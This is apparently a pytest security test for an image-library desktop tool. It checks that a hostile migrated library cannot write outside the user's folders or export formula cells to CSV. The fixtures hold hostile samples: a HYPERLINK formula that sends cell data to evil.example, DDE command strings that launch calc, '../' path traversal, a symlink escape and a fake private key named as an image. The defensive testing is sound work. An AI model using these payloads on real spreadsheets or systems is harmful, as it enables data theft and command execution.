"""Issue 15, finding 1 end to end: a hostile classic JSON/SQLite names files outside every folder the
user chose (absolute paths, `../`, a symlink out of the classic folder, a planned path for a file
that does not exist yet). Migrate, convert in place, a download of the same ids, tags and CSV export
run with the real CLI against the fake CivitAI; every file outside the chosen folders stays
byte-identical, nothing new appears there, and no exported cell starts a formula.
"""

from __future__ import annotations

import csv
import json
import os
import sqlite3
from pathlib import Path

import pytest
from PIL import Image

from civitgrab_desktop.core.library.store import LibraryStore

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def _png(path: Path, colour: tuple[int, int, int], size: int = 96) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (size, size), colour).save(path, "PNG")
    return path


def _snapshot(folders: list[Path]) -> dict[str, bytes]:
    """Every file under `folders` (links not followed) with its bytes."""
    found: dict[str, bytes] = {}
    for folder in folders:
        for dirpath, _dirs, names in os.walk(folder):
            for name in names:
                path = Path(dirpath) / name
                found[str(path)] = path.read_bytes() if not path.is_symlink() else os.readlink(path).encode()
    return found


@pytest.fixture
def hostile(workspace, fake_civitai):
    """The classic folder and the victims outside it. Returns a dict of what the test needs."""
    alice = [i for i in fake_civitai.dataset.images_for_user("alice") if i.media_format in ("png", "jpeg")]
    ids = [i.id for i in alice[:7]]
    tmp = workspace.root
    outside = tmp / "outside"  # stands for /home/<user>/...: named by an absolute path
    victim = tmp / "victim"  # reached with ../victim/...
    classic = tmp / "classic"
    holiday = _png(outside / "holiday.png", (200, 30, 30))
    _png(victim / "family.png", (30, 200, 30))
    linked_target = _png(victim / "linked.png", (30, 30, 200))
    from_sqlite = _png(outside / "from_sqlite.png", (90, 90, 90))
    own = _png(classic / "Some Model" / f"{ids[3]}.png", (240, 240, 10))  # a real classic file
    (classic / "link").mkdir(parents=True)
    (classic / "link" / f"{ids[4]}.png").symlink_to(linked_target)
    entries = {
        f"username:alice_{ids[0]}_HD": {"path": str(holiday), "quality": "HD", "checkpoint_name": HOSTILE_NAME,
                                        "url": "https://image.civitai.com/x/a/original=true/a.png", "tags": ["+cmd|' /C calc'!A0"]},
        f"username:alice_{ids[1]}_HD": {"path": "../victim/family.png", "quality": "HD", "checkpoint_name": "@SUM(1+1)*cmd|' /C calc'!A0"},
        # a file the classic tool never got: its planned path is where a later download would link it
        f"tag:hostile_{ids[2]}_HD": {"path": str(victim / "planned.png"), "quality": "HD", "checkpoint_name": "-2+3"},
        f"username:alice_{ids[3]}_HD": {"path": f"Some Model/{ids[3]}.png", "quality": "HD", "checkpoint_name": "\tTabbed"},
        f"username:alice_{ids[4]}_HD": {"path": f"link/{ids[4]}.png", "quality": "HD", "checkpoint_name": "\rReturn"},
    }
    (classic / "downloaded_images.json").write_text(json.dumps(entries), encoding="utf-8")
    db = sqlite3.connect(classic / "tracking_database.sqlite")
    db.executescript(
        """CREATE TABLE tracked_images (image_key TEXT PRIMARY KEY, image_id TEXT, quality TEXT, path TEXT,
               download_date TEXT, url TEXT, checkpoint_name TEXT, target_type TEXT, target_value TEXT);
           CREATE TABLE image_tags (image_key TEXT, tag TEXT);"""
    )
    db.execute("INSERT INTO tracked_images VALUES (?, ?, 'HD', ?, '2024-01-02 - 10:00', NULL, ?, 'username', 'alice')",
               (f"username:alice_{ids[5]}_HD", str(ids[5]), str(from_sqlite), "=1+1"))
    # a secret named as an image: never read into the library, never copied into a download folder
    secret = outside / "id_ed25519.png"  # a media name, not media bytes
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nc2VjcmV0\n")
    db.execute("INSERT INTO tracked_images VALUES (?, ?, 'HD', ?, NULL, NULL, NULL, 'username', 'alice')",
               (f"username:alice_{ids[6]}_HD", str(ids[6]), str(secret)))
    db.commit()
    db.close()
    return {
        "ids": ids, "classic": classic, "outside": outside, "victim": victim, "own": own,
        "protected": [outside, victim], "secret": secret,
    }


def test_hostile_classic_paths_never_lead_a_change_outside_the_chosen_folders(workspace, hostile, fake_civitai):
    ids, classic = hostile["ids"], hostile["classic"]
    before = _snapshot(hostile["protected"])
    sqlite_before = (classic / "tracking_database.sqlite").read_bytes()

    run = workspace.cli("migrate", str(classic), "--trust-root", str(classic))
    assert run.returncode == 1, run.output  # one problem: the key file is not an image
    assert f"{hostile['secret'].resolve()} is not an image or video; left out" in run.stderr
    # the folders the files live in are listed, and which of them stay read-only
    assert f"{hostile['outside'].resolve()}  (2 files, read-only)" in run.stdout
    assert f"{hostile['victim'].resolve()}  (2 files, read-only)" in run.stdout
    assert f"{(classic / 'Some Model').resolve()}  (1 file, may be changed)" in run.stdout
    assert "--trust-root" in run.stdout
    assert (classic / "tracking_database.sqlite").read_bytes() == sqlite_before
    assert not list(classic.glob("tracking_database.sqlite-*"))  # no journal: opened read-only
    assert _snapshot(hostile["protected"]) == before

    run = workspace.cli("convert", "--in-place")
    assert _snapshot(hostile["protected"]) == before, run.output
    assert run.returncode == 0, run.output
    own = hostile["own"]
    assert not own.exists() and own.with_suffix(".webp").is_file()  # the trusted folder's file was converted
    with workspace.store() as store:
        for image_id in (ids[0], ids[1], ids[4], ids[5]):
            row = store.image(image_id)
            assert row.cv_state == "skipped" and row.cv_error.startswith("read-only"), (image_id, row.cv_error)

    run = workspace.cli("--mode", "1", "--username", "alice", "--no-save")
    assert run.returncode == 0, run.output
    assert _snapshot(hostile["protected"]) == before
    assert not (hostile["victim"] / "planned.png").exists()
    secret_bytes = hostile["secret"].read_bytes()
    assert not [p for p in workspace.downloads.rglob("*") if p.is_file() and p.read_bytes() == secret_bytes]
    # the download put its own copies in its folder, never hard links to the imported files
    for image_id in (ids[0], ids[1]):
        copies = list(workspace.downloads.rglob(f"{image_id}.png"))
        assert copies, image_id
        assert all(c.stat().st_nlink == 1 for c in copies)

    run = workspace.cli("tags", "--method", "api")
    assert run.returncode == 0, run.output
    assert _snapshot(hostile["protected"]) == before

    out = workspace.root / "library.csv"
    run = workspace.cli("export-csv", str(out))
    assert run.returncode == 0, run.output
    assert _snapshot(hostile["protected"]) == before

    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]
    assert dangerous == []
    hostile_names = {"-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\tTabbed", "\rReturn", HOSTILE_NAME}
    kept_as_text = [c for c in cells if c.startswith("'") and c[1:] in hostile_names]
    assert kept_as_text  # the names the library still holds are exported, as text
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in body}
    assert by_id[ids[0]]["width"].isdigit()  # numbers stay numbers

    with LibraryStore(workspace.data_dir / "library.sqlite3", read_only=True) as store:
        planned = {s.target_type: s for s in store.sources_for(ids[2])}["tag"]
        assert planned.path == str(hostile["victim"] / "planned.png") and not planned.linked


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_migrate_without_trust_leaves_every_imported_file_read_only(workspace, hostile):
    classic = hostile["classic"]
    run = workspace.cli("migrate", str(classic))
    assert run.returncode == 1, run.output  # the key file named as an image is reported
    assert "may be changed" not in run.stdout and "read-only" in run.stdout
    own_bytes = hostile["own"].read_bytes()
    run = workspace.cli("convert", "--in-place")
    assert run.returncode == 0, run.output
    assert hostile["own"].read_bytes() == own_bytes and not hostile["own"].with_suffix(".webp").exists()
    # trusting the folder afterwards makes its images convertible again
    run = workspace.cli("roots", "add", str(classic))
    assert run.returncode == 0, run.output
    run = workspace.cli("convert", "--in-place")
    assert run.returncode == 0, run.output
    assert not hostile["own"].exists() and hostile["own"].with_suffix(".webp").is_file()


@pytest.mark.parametrize("folder", ["/", "~"])
def test_trust_root_refuses_a_drive_or_the_home_folder(workspace, hostile, folder):
    run = workspace.cli("migrate", str(hostile["classic"]), "--trust-root", os.path.expanduser(folder))
    assert run.returncode == 2 and "--trust-root" in run.stderr
